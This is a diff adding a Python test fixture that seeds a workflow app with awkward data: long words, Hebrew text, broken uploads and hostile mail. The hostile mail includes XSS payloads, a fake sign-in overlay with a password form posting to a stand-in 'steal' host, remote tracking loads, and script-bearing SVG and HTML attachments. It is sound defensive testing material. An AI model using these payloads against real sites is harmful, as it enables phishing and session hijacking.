@@ -1,0 +1,83 @@
+"""What nobody hopes for and every page must bear: hostile names, very long words, other scripts, broken everything."""
+
+from dataclasses import dataclass
+
+from sqlalchemy import select
+
+from ingest.intake import Arrival, Intake, Transport
+from ingest.reading import read_waiting
+from parsers.item import Format
+from tests.browser.fortnight import ME, SUNRISE, Desk
+from tests.browser.letters import HEADINGS, form, letter
+from tests.house import HandClock
+from tests.workbooks import book
+from workflow import saved_views
+from workflow.house import House
+from workflow.models import Contact, Outgoing, Staff
+from workflow.states import OutboxState
+
+SCRIPT = "<img src=x onerror=\"window.name='owned'\"><script>window.name='owned'</script>"
+LONG = "Donaudampfschifffahrtsgesellschaftskapitän" * 6
+HEBREW = "מרפאת השרון לבריאות המשפחה"
+EVIL = f"""<h1 style="position:fixed;top:0;left:0;width:9999px">Sign in again</h1>{SCRIPT}
+<form action="http://elsewhere.example/steal"><input name="password"><button>Go</button></form>
+<img src="http://elsewhere.example/pixel.gif"><a href="javascript:alert(1)">here</a>
+<style>@import url("http://elsewhere.example/x.css");
+body {{ background: url("http://elsewhere.example/b.png") }}</style>
+<iframe src="http://elsewhere.example/"></iframe><svg onload="window.name='owned'"></svg>"""
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.name="owned"</script></svg>'
+PAGE = b"<!doctype html><script>window.name='owned'</script>"
+
+
+def hostile_mail() -> bytes:
+    """A mail whose every part would like to run in the browser of who reads it."""
+    files = (("picture.svg", "image/svg+xml", SVG), ("invoice.pdf.html", "text/html", PAGE))
+    return letter((SCRIPT, "mallory@evil.example"), f"{SCRIPT} {LONG}", f"{SCRIPT}\n{LONG}\n", EVIL, files)
+
+
+@dataclass(frozen=True)
+class Awkward:
+    """The numbers of what a test wants to look at."""
+
+    hostile: int
+    long: int
+    unmapped: int  # a delivery: a workbook with headings nobody knows
+
+
+def add(house: House, clock: HandClock) -> Awkward:
+    """All of it, on the desk that is there."""
+    desk = Desk(house, clock)
+    hostile = desk.mail(hostile_mail())
+    desk.form(form(SCRIPT, ("Eve Null", "eve@evil.example"), SCRIPT, LONG, **{SCRIPT: LONG, LONG: SCRIPT}))
+    taken = desk.form(form(LONG, (LONG[:90], "long@" + "a" * 60 + ".example"), LONG, f"{LONG} " * 30, Phone="5" * 60))
+    desk.form(form(HEBREW, ("דנה כהן", "dana@sharon.example"), "החזר תשלום 2026", "שלום, התשלום לא הגיע."))
+    desk.takes(ME, taken)
+    desk.notes(taken, f"{SCRIPT} {LONG}")
+    desk.completes(desk.mail(letter((HEBREW, "dana@sharon.example"), "תודה", "תודה רבה")), ME, 1, f"{SCRIPT} {LONG}")
+    unmapped = _broken(house)
+    with house.store.transaction() as session:
+        me = session.scalars(select(Staff).where(Staff.name == ME)).one()
+        saved_views.save(session, me, SCRIPT[:60], "view=open", now=house.clock())
+        session.scalars(select(Contact).where(Contact.email == "mallory@evil.example")).one().unreachable = True
+        last = session.scalars(select(Outgoing).order_by(Outgoing.id.desc()).limit(3)).all()
+        for mail, state in zip(last, (OutboxState.WAITING, OutboxState.REFUSED, OutboxState.BOUNCED), strict=True):
+            mail.state, mail.reason = state, f"550 {LONG}"[:200]
+    return Awkward(hostile, taken, unmapped)
+
+
+def _broken(house: House) -> int:
+    """Deliveries that failed, and a workbook with rows that are no requests; the one that waits for a map."""
+    strange = book(["Datum", LONG[:200], SCRIPT, "Nr"], ["5/1/2026 10:00", "Nordklinik", "Hilfe", 7])
+    arrivals = [
+        (Format.FORMSTACK, b"{ not json"),
+        (Format.SECURE_MESSAGE, b"PK\x03\x04 broken"),
+        (Format.SECURE_MESSAGE, strange),
+        (Format.SECURE_MESSAGE, book(HEADINGS, ["A-1", "2026-03-02 09:30", SUNRISE, "", "", "", ""],
+                                     ["A-2", "2026-03-02", SUNRISE, "Pat", "pat@x.example", "Claims", SCRIPT])),
+    ]  # fmt: skip
+    numbers = [
+        Intake(house).accept(Arrival(transport=Transport.FOLDER, format=kind, raw=raw, envelope={"name": SCRIPT}))
+        for kind, raw in arrivals
+    ]
+    read_waiting(house)
+    return numbers[2]
